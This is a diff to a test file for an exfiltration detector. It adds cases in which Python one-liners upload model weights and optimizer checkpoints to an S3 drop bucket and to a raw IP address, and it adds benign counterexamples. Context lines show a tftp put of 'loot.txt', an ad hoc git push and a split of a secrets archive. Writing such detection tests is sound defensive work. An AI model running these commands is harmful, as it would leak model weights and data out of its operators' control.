@@ -56,6 +56,8 @@ def test_rules_load_cleanly():
     ("git push https://github.com/someone/mirror.git HEAD:main", "git_push_to_adhoc_remote"),
     ("split -b 10M secrets.tar part_", "file_split_by_size"),
     ("tftp 198.51.100.3 -c put loot.txt", "ftp_tftp_put"),
+    ("python3 -c \"import boto3; boto3.client('s3').upload_fileobj(open('out/model.safetensors', 'rb'), 'drop-bucket', 'm')\"", 'model_weights_sent_by_code'),
+    ("python -c \"import httpx; httpx.post('https://198.51.100.9/u', files={'f': open('/data/checkpoints/step_900/optim.bin', 'rb')})\"", 'model_weights_sent_by_code'),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -86,6 +88,8 @@ def test_detected(command, rule):
     "cat checkpoints/trainer_state.json | grep loss",
     "rsync -a ops@34.117.59.81:/srv/models/ ./models/",
     "rsync -av ./models/ /mnt/backup/models/",
+    "python -c \"import requests; requests.post('http://localhost:8000/predict', json={'x': 1})\"",
+    "python -c \"import torch; torch.save(m, open('models/m.pt', 'wb'))\"",
 ])
 def test_benign_not_alerted(command):
     assert alerts(command) == set()
